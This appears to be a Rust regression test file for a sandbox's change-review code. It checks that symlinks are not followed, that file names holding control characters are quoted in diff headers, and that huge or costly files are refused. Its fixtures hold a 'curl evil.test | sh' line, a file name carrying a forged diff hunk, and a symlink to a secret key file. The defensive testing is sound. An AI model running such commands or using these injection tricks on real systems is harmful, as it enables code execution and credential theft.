//! `readChange` and `diffChange` (`content`): only what the set lists is read, and never through a
//! symlink.

use super::*;

// Found by an attacker's review: a symlink the run added led `readChange` to a file denied to the
// run (`symlink_metadata` of `upper/l/id_rsa` followed `l`).
#[test]
fn a_symlink_the_set_adds_is_read_as_itself_never_through() {
    let f = fixture();
    let outside = f.ws.parent().unwrap().join("secret");
    put(&outside, "id_rsa", "TOP-SECRET");
    std::os::unix::fs::symlink(&outside, f.set.upper(0).join("l")).unwrap();
    let through = f.ws.join("l/id_rsa");
    for e in [crate::review::content::read(&f.set, &through).unwrap_err(), crate::review::content::diff(&f.set, &through).unwrap_err()] {
        assert_eq!(e.code, crate::error::ErrorCode::InvalidOptions, "{}", e.message);
        assert!(e.message.contains("not a change of the change set"), "{}", e.message);
    }
    assert_eq!(crate::review::content::read(&f.set, &f.ws.join("l")).unwrap().unwrap(), outside.as_os_str().as_encoded_bytes());
}

#[test]
fn only_listed_paths_are_read_and_what_a_deleted_directory_held_is_gone() {
    let mut f = fixture();
    put(&f.ws, "gone/a", "a");
    put(&f.ws, "same.txt", "same");
    begin_now(&mut f);
    let up = f.set.upper(0);
    whiteout(&up.join("gone"));
    put(&up, "same.txt", "same");
    let read = |rel: &str| crate::review::content::read(&f.set, &f.ws.join(rel));
    assert_eq!(read("gone").unwrap(), None);
    assert_eq!(read("gone/a").unwrap(), None, "below a deleted directory");
    assert!(read("same.txt").unwrap_err().message.contains("not a change"), "copied up, unchanged: not listed");
    assert!(read("nothing").unwrap_err().message.contains("not a change"));
    assert!(crate::review::content::diff(&f.set, &f.ws.join("gone/a")).unwrap().contains("-a"));
}

// Found by an attacker's review: a file named `notes.txt\n@@ -0,0 +1 @@\n+just a note` made
// `sandspawn review diff` print a forged hunk above the real one (the header held the raw name).
#[test]
fn a_name_with_control_characters_is_quoted_in_the_diff_header() {
    let f = fixture();
    let name = "notes.txt\n@@ -0,0 +1 @@\n+just a harmless note";
    put(&f.set.upper(0), name, "curl evil.test | sh\n");
    let diff = crate::review::content::diff(&f.set, &f.ws.join(name)).unwrap();
    let lines: Vec<&str> = diff.lines().collect();
    assert_eq!(lines.len(), 4, "one header line per side, one hunk, one added line: {diff:?}");
    assert_eq!(lines[0], "--- /dev/null");
    assert_eq!(lines[1], format!("+++ \"b{}/notes.txt\\n@@ -0,0 +1 @@\\n+just a harmless note\"", f.ws.display()));
    assert_eq!(lines[3], "+curl evil.test | sh");
    assert_eq!(super::super::content::header_path("a", std::path::Path::new("/w/x\"y\\z\t")), "\"a/w/x\\\"y\\\\z\\t\"");
    assert_eq!(super::super::content::header_path("b", std::path::Path::new("/w/plain \\xff")), "b/w/plain \\xff", "no control character: as shown");
}

// Found by an attacker's review: a run's `truncate -s 5G big.bin` (36 KiB on disk) made
// `readChange` read five gigabytes into the host's memory, and the promise never settled.
#[test]
fn a_sparse_file_past_the_read_bound_is_refused_without_reading_it() {
    let f = fixture();
    let big = std::fs::File::create(f.set.upper(0).join("big.bin")).unwrap();
    // Past the bound by far, but modest: before the fix this test read it all.
    big.set_len((1 << 30) + 1).unwrap();
    let started = std::time::Instant::now();
    let e = crate::review::content::read(&f.set, &f.ws.join("big.bin")).unwrap_err();
    assert!(started.elapsed() < std::time::Duration::from_secs(2), "refused at once, not read: {:?}", started.elapsed());
    assert_eq!(e.code, crate::error::ErrorCode::Unsupported, "{}", e.message);
    assert!(e.message.contains("1073741825 bytes") && e.message.contains(&(64u64 << 20).to_string()), "the size and the bound: {}", e.message);
    put(&f.set.upper(0), "small.txt", "small");
    assert_eq!(crate::review::content::read(&f.set, &f.ws.join("small.txt")).unwrap().unwrap(), b"small");
}

// Found by an attacker's review: a 100-line README rewritten as 200,000 lines of `b` took one
// `diffChange` 28 s of host CPU (Myers is quadratic here); 2,000,000 lines, ~47 minutes.
#[test]
fn a_diff_too_costly_to_make_minimal_stops_and_says_so() {
    let mut f = fixture();
    let readme: String = (0..100).map(|i| format!("line {i}\n")).collect();
    put(&f.ws, "README.md", &readme);
    begin_now(&mut f);
    put(&f.set.upper(0), "README.md", &"b\n".repeat(200_000));
    let started = std::time::Instant::now();
    let diff = crate::review::content::diff(&f.set, &f.ws.join("README.md")).unwrap();
    // A hang bound, not a speed bound: unbounded, this diff (100 lines against 200,000) runs for
    // hours; bounded, it took 2.5 s here alone and 6.2 s under the load of a parallel run of the
    // suite beside other builds (a 6 s bound failed there). "not minimal" below shows the deadline hit.
    assert!(started.elapsed() < std::time::Duration::from_secs(120), "bounded: {:?}", started.elapsed());
    let first = diff.lines().next().unwrap();
    assert!(first.contains("not minimal"), "says so first: {first:?}");
    assert_eq!(diff.lines().filter(|l| *l == "+b").count(), 200_000, "still every change: {}", &diff[..200]);
    assert_eq!(diff.lines().filter(|l| l.starts_with("-line ")).count(), 100);
    put(&f.set.upper(0), "README.md", &readme.replace("line 5\n", "line five\n"));
    let small = crate::review::content::diff(&f.set, &f.ws.join("README.md")).unwrap();
    assert!(small.starts_with("--- a"), "a diff made in time says nothing more: {small}");
}
